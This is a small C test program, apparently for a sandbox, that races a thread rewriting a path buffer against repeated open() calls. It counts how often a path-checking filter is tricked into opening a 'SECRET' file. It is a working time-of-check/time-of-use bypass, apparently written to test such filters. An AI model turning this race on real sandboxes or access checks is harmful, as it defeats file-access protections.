/* race: open a path while another thread keeps rewriting it.
 *
 *   race ALLOWED SECRET COUNT
 *
 * One thread flips a shared buffer between ALLOWED and SECRET (same length);
 * the main thread opens the buffer COUNT times and reads what it opened. A
 * sentry that checks the path and then lets the kernel read the buffer again
 * can be tricked into opening SECRET. Prints "opened_allowed N", "opened_secret
 * N" and "denied N".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char path[256];
static const char *names[2];
static volatile int stop;

static void *flipper(void *arg) {
    (void)arg;
    size_t length = strlen(names[0]) + 1;
    for (unsigned i = 0; !stop; i++)
        memcpy(path, names[i & 1], length);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4 || strlen(argv[1]) != strlen(argv[2]))
        return 2;
    names[0] = argv[1];
    names[1] = argv[2];
    strcpy(path, names[0]);
    pthread_t thread;
    pthread_create(&thread, NULL, flipper, NULL);
    long count = strtol(argv[3], NULL, 10), allowed = 0, secret = 0, denied = 0;
    for (long i = 0; i < count; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) {
            denied++;
            continue;
        }
        char content[16] = {0};
        read(fd, content, sizeof content - 1);
        close(fd);
        if (strncmp(content, "SECRET", 6) == 0)
            secret++;
        else
            allowed++;
    }
    stop = 1;
    pthread_join(thread, NULL);
    printf("opened_allowed %ld\nopened_secret %ld\ndenied %ld\n", allowed, secret, denied);
    return 0;
}
